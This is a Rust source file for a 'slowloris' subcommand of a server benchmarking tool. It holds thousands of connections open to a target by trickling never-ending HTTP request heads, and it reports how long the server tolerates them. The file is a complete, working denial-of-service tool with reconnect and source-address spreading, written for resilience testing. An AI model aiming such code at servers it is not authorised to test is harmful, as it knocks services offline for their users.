//! `reactor-bench slowloris`: many connections that trickle a request head a
//! byte at a time and never finish it (or, with `--silent`, send nothing),
//! to see how long a server lets them live and what it costs it.
//!
//! One thread, one mio poll loop. Each connection sends the first byte of
//! the head as soon as it is connected, then one more byte every
//! `--interval`; after `--head`, header lines `X-a: b\r\n` follow forever, so
//! the head never ends. The report counts how many are open over time and,
//! for each connection the server closed, how long it lived from connect to
//! the close and what (if anything) the server said before it.

use std::collections::{BTreeMap, VecDeque};
use std::fmt::Write as _;
use std::io::{self, Read, Write as _};
use std::net::{SocketAddr, ToSocketAddrs};
use std::time::{Duration, Instant};

use clap::Args;
use hdrhistogram::Histogram;
use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};
use serde::Serialize;
use socket2::SockRef;

use crate::cli::{parse_duration, parse_sources, Sources};
use crate::client::open_socket;
use crate::escapes;
use crate::report::{count, group};

/// Trickles request heads over many connections, or holds silent ones.
#[derive(Args, Debug, Clone)]
pub struct SlowlorisArgs {
    /// Server to attack, as host:port.
    pub target: String,

    /// Connections to keep open.
    #[arg(short, long, default_value_t = 1000)]
    pub connections: usize,

    /// Time between two bytes on one connection.
    #[arg(short, long, value_parser = parse_duration, default_value = "1s")]
    pub interval: Duration,

    /// How long to run.
    #[arg(short = 'D', long, value_parser = parse_duration, default_value = "30s")]
    pub duration: Duration,

    /// Send nothing at all: connect and wait.
    #[arg(long)]
    pub silent: bool,

    /// Open a new connection for each one the server closes (or that fails
    /// to connect), as a real attacker would.
    #[arg(long)]
    pub reconnect: bool,

    /// The start of the head to trickle (escapes: \r \n \t \0 \\ \xNN);
    /// `X-a: b\r\n` lines follow it forever.
    #[arg(long, default_value = r"GET / HTTP/1.1\r\nHost: x\r\n")]
    pub head: String,

    /// Most connects started per second (0: no limit).
    #[arg(long, default_value_t = 2000.0)]
    pub connect_rate: f64,

    /// How long a connect may take before it counts as failed.
    #[arg(long, value_parser = parse_duration, default_value = "10s")]
    pub connect_timeout: Duration,

    /// Source addresses to spread connections over (a range
    /// 127.0.0.2-127.0.0.9 or a comma-separated list).
    #[arg(long, value_parser = parse_sources)]
    pub source: Option<Sources>,

    /// How often to sample the number of open connections for the timeline.
    #[arg(long, value_parser = parse_duration, default_value = "1s")]
    pub sample: Duration,

    /// Print the result as JSON on stdout, and nothing else.
    #[arg(long)]
    pub json: bool,
}

/// What endlessly follows the head, so that it never ends.
const PAD: &[u8] = b"X-a: b\r\n";

/// The `i`th byte a connection sends.
fn byte_at(head: &[u8], i: usize) -> u8 {
    match head.get(i) {
        Some(&b) => b,
        None => PAD[(i - head.len()) % PAD.len()],
    }
}

/// Where a connection is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum State {
    /// Waiting for its turn to connect.
    Waiting,
    Connecting,
    Open,
    /// Closed, not to be reopened.
    Done,
}

struct Slot {
    /// Bumped at each connect; events and timers of an older socket are
    /// ignored.
    epoch: u32,
    stream: Option<TcpStream>,
    state: State,
    started: Instant,
    connected: Instant,
    /// Bytes of the head sent so far.
    sent: usize,
    /// The first bytes the server sent, if any.
    reply: Vec<u8>,
}

/// How the server ended a connection.
#[derive(Clone, Copy)]
enum End {
    Eof,
    Reset,
}

/// One sample of the timeline.
#[derive(Clone, Debug, Serialize)]
pub struct Sample {
    pub t_s: f64,
    /// Connections open (connected and not yet closed).
    pub open: usize,
    /// Connects in progress.
    pub connecting: usize,
    /// Connections the server has closed so far.
    pub closed: u64,
}

/// Lifetimes of the connections the server closed, connect to close, in
/// seconds.
#[derive(Clone, Debug, Default, Serialize)]
pub struct Lifetimes {
    pub count: u64,
    pub min_s: f64,
    pub p50_s: f64,
    pub p90_s: f64,
    pub p99_s: f64,
    pub max_s: f64,
}

/// The whole run, as printed and as `--json` emits it.
#[derive(Clone, Debug, Serialize)]
pub struct SlowlorisReport {
    pub target: String,
    pub connections: usize,
    pub silent: bool,
    pub reconnect: bool,
    pub interval_s: f64,
    pub duration_s: f64,
    /// Connects started and completed.
    pub connects_started: u64,
    pub connected: u64,
    /// Connects that failed, by kind.
    pub connect_refused: u64,
    pub connect_timed_out: u64,
    pub connect_other: u64,
    /// Connections the server ended with a FIN (clean close) or a reset
    /// (`ECONNRESET`, `EPIPE` on a write).
    pub closed_eof: u64,
    pub closed_reset: u64,
    /// Of those, how many got bytes from the server before the close, by
    /// the first line of what it sent (e.g. `HTTP/1.1 408 Request Time-out`).
    pub replies: BTreeMap<String, u64>,
    /// Connections still open when the run ended.
    pub open_at_end: usize,
    /// Most connections open at once (at a sample).
    pub open_max: usize,
    /// Bytes of heads sent in all.
    pub bytes_sent: u64,
    pub lifetime: Lifetimes,
    pub timeline: Vec<Sample>,
}

/// Runs the attack and prints its report.
pub fn run(args: &SlowlorisArgs) -> io::Result<std::process::ExitCode> {
    let report = attack(args)?;
    if args.json {
        let mut out = io::stdout().lock();
        serde_json::to_writer_pretty(&mut out, &report).map_err(io::Error::other)?;
        writeln!(out)?;
    } else {
        print!("{}", report.render());
    }
    Ok(std::process::ExitCode::SUCCESS)
}

/// Runs the attack and returns what it saw.
pub fn attack(args: &SlowlorisArgs) -> io::Result<SlowlorisReport> {
    if let Err(err) = reactor_loop::raise_fd_limit() {
        log::warn!("cannot raise the descriptor limit: {err}");
    }
    let invalid = |what: String| io::Error::new(io::ErrorKind::InvalidInput, what);
    let target: SocketAddr = args
        .target
        .to_socket_addrs()
        .map_err(|err| crate::bad_address(&args.target, err))?
        .next()
        .ok_or_else(|| invalid(format!("`{}` resolves to no address", args.target)))?;
    if args.connections == 0 || args.connections > u32::MAX as usize {
        return Err(invalid("--connections must be between 1 and 2^32 - 1".into()));
    }
    if args.interval.is_zero() || args.sample.is_zero() {
        return Err(invalid("--interval and --sample must be positive".into()));
    }
    if !(args.connect_rate >= 0.0 && args.connect_rate.is_finite()) {
        return Err(invalid("--connect-rate must be a number, 0 or more".into()));
    }
    let head = escapes::unescape(&args.head).map_err(|e| invalid(format!("--head: {e}")))?;
    if head.windows(4).any(|w| w == b"\r\n\r\n") || head.windows(2).any(|w| w == b"\n\n") {
        return Err(invalid("--head must not end the head (no empty line)".into()));
    }
    let sources = args.source.clone().map(|s| s.0).unwrap_or_default();
    let mut attack = Attack {
        args,
        head,
        target,
        sources,
        poll: Poll::new()?,
        slots: Vec::with_capacity(args.connections),
        waiting: (0..args.connections).collect(),
        sends: VecDeque::new(),
        timeouts: VecDeque::new(),
        tokens: 1.0,
        report: SlowlorisReport {
            target: target.to_string(),
            connections: args.connections,
            silent: args.silent,
            reconnect: args.reconnect,
            interval_s: args.interval.as_secs_f64(),
            duration_s: args.duration.as_secs_f64(),
            connects_started: 0,
            connected: 0,
            connect_refused: 0,
            connect_timed_out: 0,
            connect_other: 0,
            closed_eof: 0,
            closed_reset: 0,
            replies: BTreeMap::new(),
            open_at_end: 0,
            open_max: 0,
            bytes_sent: 0,
            lifetime: Lifetimes::default(),
            timeline: Vec::new(),
        },
        lifetimes: Histogram::new_with_bounds(1, 3_600_000, 3).expect("valid histogram bounds"),
        open: 0,
        connecting: 0,
    };
    let now = Instant::now();
    for _ in 0..args.connections {
        attack.slots.push(Slot {
            epoch: 0,
            stream: None,
            state: State::Waiting,
            started: now,
            connected: now,
            sent: 0,
            reply: Vec::new(),
        });
    }
    attack.run()?;
    Ok(attack.report)
}

struct Attack<'a> {
    args: &'a SlowlorisArgs,
    head: Vec<u8>,
    target: SocketAddr,
    sources: Vec<std::net::IpAddr>,
    poll: Poll,
    slots: Vec<Slot>,
    /// Slots waiting to connect, in order.
    waiting: VecDeque<usize>,
    /// When each open connection sends its next byte: always pushed
    /// `interval` after now, so the queue stays in order.
    sends: VecDeque<(Instant, usize, u32)>,
    /// When each connect times out (same reasoning).
    timeouts: VecDeque<(Instant, usize, u32)>,
    /// Connects allowed now (token bucket of `--connect-rate`).
    tokens: f64,
    report: SlowlorisReport,
    /// Milliseconds from connect to the server's close.
    lifetimes: Histogram<u64>,
    open: usize,
    connecting: usize,
}

fn token(index: usize, epoch: u32) -> Token {
    Token(index | ((epoch as usize) << 32))
}

fn untoken(token: Token) -> (usize, u32) {
    (token.0 & 0xffff_ffff, (token.0 >> 32) as u32)
}

impl Attack<'_> {
    fn run(&mut self) -> io::Result<()> {
        let start = Instant::now();
        let end = start + self.args.duration;
        let mut next_sample = start;
        let mut last_refill = start;
        let mut events = Events::with_capacity(1024);
        loop {
            let now = Instant::now();
            if now >= next_sample {
                self.sample(now.saturating_duration_since(start));
                next_sample += self.args.sample;
            }
            if now >= end {
                break;
            }
            // Connects, within the rate.
            let rate = self.args.connect_rate;
            if rate > 0.0 {
                let burst = (rate / 20.0).max(1.0);
                self.tokens =
                    (self.tokens + rate * now.saturating_duration_since(last_refill).as_secs_f64()).min(burst);
            }
            last_refill = now;
            while let Some(&index) = self.waiting.front() {
                if rate > 0.0 && self.tokens < 1.0 {
                    break;
                }
                self.waiting.pop_front();
                self.tokens -= 1.0;
                self.connect(index, now);
            }
            let mut wake = end.min(next_sample);
            if let Some(&(at, ..)) = self.sends.front() {
                wake = wake.min(at);
            }
            if let Some(&(at, ..)) = self.timeouts.front() {
                wake = wake.min(at);
            }
            if !self.waiting.is_empty() {
                wake = wake.min(now + Duration::from_millis(5));
            }
            match self.poll.poll(&mut events, Some(wake.saturating_duration_since(now))) {
                Ok(()) => {}
                Err(err) if err.kind() == io::ErrorKind::Interrupted => continue,
                Err(err) => return Err(err),
            }
            let now = Instant::now();
            for event in events.iter() {
                let (index, epoch) = untoken(event.token());
                if self.slots.get(index).is_some_and(|s| s.epoch == epoch) {
                    self.on_event(index, now);
                }
            }
            self.run_timers(now);
        }
        self.finish();
        Ok(())
    }

    fn sample(&mut self, at: Duration) {
        self.report.open_max = self.report.open_max.max(self.open);
        self.report.timeline.push(Sample {
            t_s: (at.as_secs_f64() * 1000.0).round() / 1000.0,
            open: self.open,
            connecting: self.connecting,
            closed: self.report.closed_eof + self.report.closed_reset,
        });
    }

    fn connect(&mut self, index: usize, now: Instant) {
        let source = (!self.sources.is_empty()).then(|| self.sources[index % self.sources.len()]);
        let slot = &mut self.slots[index];
        slot.epoch = slot.epoch.wrapping_add(1);
        slot.started = now;
        slot.sent = 0;
        slot.reply.clear();
        self.report.connects_started += 1;
        let opened = open_socket(self.target, source).and_then(|mut stream| {
            self.poll.registry().register(
                &mut stream,
                token(index, slot.epoch),
                Interest::READABLE | Interest::WRITABLE,
            )?;
            Ok(stream)
        });
        match opened {
            Ok(stream) => {
                slot.stream = Some(stream);
                slot.state = State::Connecting;
                self.connecting += 1;
                self.timeouts.push_back((now + self.args.connect_timeout, index, slot.epoch));
            }
            Err(err) => {
                slot.state = State::Connecting;
                self.connecting += 1;
                self.connect_failed(index, &err);
            }
        }
    }

    fn connect_failed(&mut self, index: usize, err: &io::Error) {
        match err.kind() {
            io::ErrorKind::ConnectionRefused => self.report.connect_refused += 1,
            io::ErrorKind::TimedOut => self.report.connect_timed_out += 1,
            _ => self.report.connect_other += 1,
        }
        log::debug!("connect failed: {err}");
        self.drop_slot(index);
    }

    fn on_event(&mut self, index: usize, now: Instant) {
        if self.slots[index].state == State::Connecting {
            let Some(stream) = self.slots[index].stream.as_ref() else { return };
            let result = match stream.take_error() {
                Ok(Some(err)) | Err(err) => Err(err),
                Ok(None) => match stream.peer_addr() {
                    Ok(_) => Ok(()),
                    Err(err) if err.kind() == io::ErrorKind::NotConnected => return,
                    Err(err) => Err(err),
                },
            };
            match result {
                Ok(()) => {
                    let slot = &mut self.slots[index];
                    slot.state = State::Open;
                    slot.connected = now;
                    self.connecting -= 1;
                    self.open += 1;
                    self.report.connected += 1;
                    if !self.args.silent {
                        let epoch = slot.epoch;
                        self.send_byte(index, now);
                        if self.slots[index].state == State::Open {
                            self.sends.push_back((now + self.args.interval, index, epoch));
                        }
                    }
                }
                Err(err) => return self.connect_failed(index, &err),
            }
        }
        if self.slots[index].state == State::Open {
            self.read(index, now);
        }
    }

    /// Reads what the server sent, until it would block or the stream ends.
    fn read(&mut self, index: usize, now: Instant) {
        let mut buf = [0u8; 4096];
        loop {
            let slot = &mut self.slots[index];
            let Some(stream) = slot.stream.as_mut() else { return };
            match stream.read(&mut buf) {
                Ok(0) => return self.closed(index, now, End::Eof),
                Ok(n) => {
                    let keep = n.min(256usize.saturating_sub(slot.reply.len()));
                    slot.reply.extend_from_slice(&buf[..keep]);
                }
                Err(err) if err.kind() == io::ErrorKind::WouldBlock => return,
                Err(err) if err.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => return self.closed(index, now, End::Reset),
            }
        }
    }

    /// Sends the connection's next byte.
    fn send_byte(&mut self, index: usize, now: Instant) {
        let slot = &mut self.slots[index];
        let Some(stream) = slot.stream.as_mut() else { return };
        let byte = byte_at(&self.head, slot.sent);
        match stream.write(&[byte]) {
            Ok(1) => {
                slot.sent += 1;
                self.report.bytes_sent += 1;
            }
            Ok(_) => {}
            // A full socket buffer: try again at the next interval.
            Err(err) if matches!(err.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::Interrupted) => {}
            // The server has gone: read what it said and how it ended.
            Err(_) => {
                self.read(index, now);
                if self.slots[index].state == State::Open {
                    self.closed(index, now, End::Reset);
                }
            }
        }
    }

    fn run_timers(&mut self, now: Instant) {
        while let Some(&(at, index, epoch)) = self.sends.front() {
            if at > now {
                break;
            }
            self.sends.pop_front();
            if self.slots[index].epoch == epoch && self.slots[index].state == State::Open {
                self.send_byte(index, now);
                if self.slots[index].state == State::Open {
                    self.sends.push_back((now + self.args.interval, index, epoch));
                }
            }
        }
        while let Some(&(at, index, epoch)) = self.timeouts.front() {
            if at > now {
                break;
            }
            self.timeouts.pop_front();
            if self.slots[index].epoch == epoch && self.slots[index].state == State::Connecting {
                self.connect_failed(index, &io::Error::from(io::ErrorKind::TimedOut));
            }
        }
    }

    /// The server ended an open connection: count how and when.
    fn closed(&mut self, index: usize, now: Instant, end: End) {
        let slot = &mut self.slots[index];
        let lived = now.saturating_duration_since(slot.connected);
        let _ = self.lifetimes.record((lived.as_millis() as u64).max(1));
        match end {
            End::Eof => self.report.closed_eof += 1,
            End::Reset => self.report.closed_reset += 1,
        }
        if !slot.reply.is_empty() {
            let line = slot.reply.split(|&b| b == b'\n').next().unwrap_or_default();
            let line = String::from_utf8_lossy(line).trim_end().to_string();
            *self.report.replies.entry(line).or_default() += 1;
        }
        self.drop_slot(index);
    }

    /// Closes the slot's socket (if any); it connects again later with
    /// `--reconnect`.
    fn drop_slot(&mut self, index: usize) {
        let slot = &mut self.slots[index];
        match slot.state {
            State::Connecting => self.connecting -= 1,
            State::Open => self.open -= 1,
            State::Waiting | State::Done => {}
        }
        if let Some(mut stream) = slot.stream.take() {
            let _ = self.poll.registry().deregister(&mut stream);
            // No TIME_WAIT on our side: repeated runs must not run out of
            // ephemeral ports.
            let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
        }
        if self.args.reconnect {
            slot.state = State::Waiting;
            self.waiting.push_back(index);
        } else {
            slot.state = State::Done;
        }
    }

    fn finish(&mut self) {
        self.report.open_at_end = self.open;
        self.report.open_max = self.report.open_max.max(self.open);
        let h = &self.lifetimes;
        if !h.is_empty() {
            let s = |ms: u64| ms as f64 / 1000.0;
            self.report.lifetime = Lifetimes {
                count: h.len(),
                min_s: s(h.min()),
                p50_s: s(h.value_at_quantile(0.5)),
                p90_s: s(h.value_at_quantile(0.9)),
                p99_s: s(h.value_at_quantile(0.99)),
                max_s: s(h.max()),
            };
        }
        for slot in &mut self.slots {
            if let Some(stream) = slot.stream.take() {
                let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
            }
        }
    }
}

impl SlowlorisReport {
    /// The human-readable report.
    pub fn render(&self) -> String {
        let mut out = String::new();
        let what = if self.silent { "silent".to_string() } else { format!("a byte every {:.3} s", self.interval_s) };
        let _ = writeln!(
            out,
            "reactor-bench slowloris {}: {}, {what}, {:.0} s{}",
            self.target,
            count(self.connections as u64, "connection"),
            self.duration_s,
            if self.reconnect { ", reconnecting" } else { "" }
        );
        let _ = writeln!(
            out,
            "  connects    {} started, {} connected; failed: refused {}, timed out {}, other {}",
            group(self.connects_started),
            group(self.connected),
            self.connect_refused,
            self.connect_timed_out,
            self.connect_other
        );
        let _ = writeln!(
            out,
            "  closed      {} by the server ({} FIN, {} reset); {} open at the end, {} at most",
            group(self.closed_eof + self.closed_reset),
            group(self.closed_eof),
            group(self.closed_reset),
            group(self.open_at_end as u64),
            group(self.open_max as u64)
        );
        let l = &self.lifetime;
        if l.count > 0 {
            let _ = writeln!(
                out,
                "  lifetime    connect to close: min {:.2} s  p50 {:.2} s  p90 {:.2} s  p99 {:.2} s  max {:.2} s",
                l.min_s, l.p50_s, l.p90_s, l.p99_s, l.max_s
            );
        }
        for (line, count) in &self.replies {
            let _ = writeln!(out, "  reply       {} x {line:?}", group(*count));
        }
        let _ = writeln!(out, "  sent        {} of heads", count(self.bytes_sent, "byte"));
        let timeline: Vec<String> =
            self.timeline.iter().map(|s| format!("{:.0}s:{}/{}", s.t_s, s.open, s.closed)).collect();
        let _ = writeln!(out, "  open/closed {}", timeline.join(" "));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_head_never_ends() {
        let head = b"GET / HTTP/1.1\r\nHost: x\r\n";
        let sent: Vec<u8> = (0..head.len() + 100 * PAD.len()).map(|i| byte_at(head, i)).collect();
        assert!(sent.starts_with(head));
        assert!(!sent.windows(4).any(|w| w == b"\r\n\r\n"));
        assert!(sent.ends_with(b"X-a: b\r\n"));
    }
}
